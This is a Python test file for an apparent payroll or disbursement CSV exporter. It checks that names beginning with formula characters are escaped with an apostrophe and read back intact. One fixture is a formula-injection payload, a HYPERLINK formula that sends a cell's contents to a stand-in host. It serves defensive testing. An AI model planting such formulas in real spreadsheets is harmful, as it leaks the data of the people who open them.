"""CSV cells safe to open in a spreadsheet: no text cell starts a formula, and our reader reads
back exactly what our writer wrote."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from switch.scheme.codes import Program
from switch.scheme.disbursement import DisbursementItem, parse_csv, write_csv
from switch.scheme.spreadsheet import FORMULA_STARTS, safe_cell, unescape_cell

FORMULA_NAMES = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Nguyễn Văn An")',
    "+84912345678",
    "-Trần Thị Bình",
    "@SUM(A1:A9)",
    "'=Lê Văn Cường",
]
CITIZEN_IDS = ["001090012345", "079185012345", "048070012345", "038088012345", "096075012345"]


def test_a_cell_that_would_start_a_formula_is_written_with_an_apostrophe() -> None:
    for name in FORMULA_NAMES:
        cell = safe_cell(name)
        assert isinstance(cell, str) and cell == "'" + name


def test_ordinary_names_and_numbers_are_written_as_they_are() -> None:
    assert safe_cell("Nguyễn Văn Đức") == "Nguyễn Văn Đức"
    assert safe_cell(1_500_000) == 1_500_000
    assert safe_cell(-1) == -1  # a number is a number to a spreadsheet, never a formula


@given(st.text(max_size=40))
def test_no_written_text_cell_starts_a_formula_and_every_one_reads_back_as_it_was(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str) and not cell.startswith(FORMULA_STARTS)
    assert unescape_cell(cell) == text


def test_a_payroll_csv_with_formula_like_names_is_written_safe_and_reads_back_the_same_names() -> None:
    items = [
        DisbursementItem(
            end_to_end_id=f"MOLISA-E2E-{n}",
            citizen_id=CITIZEN_IDS[n],
            name=name,
            amount_vnd=500_000,
            program=Program.SOCIAL_ASSISTANCE,
            cycle="2026-12",
        )
        for n, name in enumerate(FORMULA_NAMES)
    ]
    data = write_csv(items)
    lines = data.decode().splitlines()[1:]
    assert all(line.split(",", 3)[2].lstrip('"').startswith("'") for line in lines)

    read = parse_csv(data, message_id="MOLISA-2026-12-CSV")

    assert [i.name for i in read.items] == FORMULA_NAMES
